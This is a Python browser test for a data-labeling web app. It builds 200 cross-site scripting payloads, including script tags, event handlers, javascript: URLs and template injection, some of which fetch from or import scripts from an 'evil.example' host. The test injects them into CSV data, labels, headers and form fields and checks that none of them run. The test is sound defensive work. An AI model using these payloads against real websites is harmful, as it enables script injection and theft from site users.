"""Texts, labels, guidance, names and column names that try to be more than texts."""

import csv
import json
from itertools import cycle, islice

MARKS = ["<script>{}</script>", "<img src=x onerror={}>", '"><svg onload={}>', "javascript:{}",
         "<iframe srcdoc='<script>{}</script>'>", "</textarea><script>{}</script>",
         "</title><script>{}</script>", "<a href='javascript:{}'>x</a>", "{{constructor('{}')()}}",
         "${{{}}}", "<style>@import 'http://evil.example/{}'</style>", "' onfocus='{}' autofocus='",
         "<body onload={}>", "<math href='javascript:{}'>x", "\u2028{}//", "<!--{}-->",
         "<link rel=stylesheet href='http://evil.example/?{}'>", "]]><x:script>{}</x:script>",
         "<details open ontoggle={}>x", "<video src=x onerror={}>"]  # fmt: skip
CALLS = ["alert(1)", "window.ran=1", "fetch('http://evil.example')", "confirm`1`", "prompt(1)",
         "document.body.remove()", "top.ran=1", "eval('ran=1')", "import('http://evil.example')",
         "parent.ran=1"]  # fmt: skip
PAYLOADS = [mark.replace("{}", call) for mark in MARKS for call in CALLS]


def test_no_payload_runs_in_any_field(labeling):
    assert len(set(PAYLOADS)) == 200
    columns = PAYLOADS[:4]
    rows = list(zip(*(islice(cycle(PAYLOADS), n, n + 200) for n in range(4)), strict=True))
    with open(labeling.folder / "data.csv", "w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([columns, *rows])
    labeling.start()
    labels = PAYLOADS[::8]
    for at, label in enumerate(labels):
        labeling.post("/api/labels", {"name": label})
        labeling.post("/api/labels", {"name": label, "guidance": PAYLOADS[at]})
    from urllib.parse import quote

    for at in range(200):
        body = {"items": [at], "labels": [labels[at % 2 if at < 100 else at % len(labels)]]}
        who = quote(PAYLOADS[-1 - at % 3])
        labeling.post("/api/answer", body, **{"X-User": who})
    labeling.post("/api/answer", {"items": list(range(90)), "labels": [labels[2]]},
                  **{"X-User": quote(PAYLOADS[7])})  # fmt: skip
    page = labeling.page(name=PAYLOADS[5])
    page.click("#meanings summary")
    for _ in range(3):
        title = page.inner_text("#row-title")
        page.keyboard.press("2")
        page.wait_for_function(
            "before => document.querySelector('#row-title').textContent !== before", arg=title
        )
    page.fill("#search-text", "<")
    page.keyboard.press("Enter")
    page.locator(".entry").nth(19).wait_for()
    while page.is_visible("#list-more"):
        n = page.locator(".entry").count()
        page.click("#list-more")
        page.wait_for_function("n => document.querySelectorAll('.entry').length > n", arg=n)
    assert page.locator(".entry").count() > 150
    page.click("#bulk-go")
    page.keyboard.press("Escape")
    page.click("#tab-try")
    for field in page.locator("#try-fields textarea, #try-fields input").all():
        field.fill(PAYLOADS[1])
    page.locator("#try-said .figure").wait_for()
    page.click("#tab-model")
    page.locator("#report:visible").wait_for()
    page.frame_locator("#report").locator("h1").first.wait_for()
    page.click("#tab-data")
    page.locator("#data-said h3").first.wait_for()
    page.wait_for_timeout(300)
    assert page.evaluate("[window.ran, document.querySelectorAll('main script, main img').length]"
                         ) == [None, 0]  # fmt: skip
    held = [json.loads(line) for line in labeling.get("/export.jsonl").split("\n")[:-1]]
    assert {row[columns[0]] for row in held} == set(PAYLOADS)
